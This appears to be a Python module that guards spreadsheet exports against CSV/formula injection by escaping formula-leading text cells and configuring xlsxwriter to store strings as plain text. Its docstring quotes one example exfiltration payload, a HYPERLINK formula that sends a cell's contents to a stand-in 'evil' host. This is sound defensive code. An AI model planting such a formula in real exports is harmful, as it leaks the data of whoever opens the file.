"""Writing CSV and XLSX that a spreadsheet opens safely: the one place every export goes through.

A customer name such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` arrives from an ERP file as
text; written as-is into a CSV, Excel or LibreOffice runs it as a formula when the file is opened
(CSV/formula injection). ``csv_writer`` prefixes such text cells with an apostrophe, as OWASP
advises; numbers (``-12.50``, ``1,234.56``) are left alone so amounts still read back.
``xlsx_workbook`` writes every string as a string cell (never a formula, a URL or a number).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

# What a spreadsheet reads as the start of a formula (tab and carriage return too: Excel strips
# them and looks at what follows).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d[\d,]*)?(\.\d+)?([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would run as a formula: then the same
    text behind an apostrophe (shown as text, never evaluated)."""
    if (
        isinstance(value, str)
        and value[:1] in FORMULA_TRIGGERS
        and not (_NUMBER.fullmatch(value) and any(ch.isdigit() for ch in value))
    ):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose cells pass through ``safe_cell``."""

    def __init__(self, stream: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **kwargs: Any) -> SafeCsvWriter:
    """A CSV writer for anything a person may open in a spreadsheet (every OpenAR export)."""
    return SafeCsvWriter(stream, **kwargs)


def xlsx_workbook(target: Any, options: dict[str, Any] | None = None) -> Any:
    """An ``xlsxwriter.Workbook`` that writes text as text: ``sheet.write(r, c, "=SUM(A1)")``
    stores the characters, not a formula (formulas must be written with ``write_formula``)."""
    import xlsxwriter

    return xlsxwriter.Workbook(
        target,
        {
            "in_memory": True,
            **(options or {}),
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        },
    )
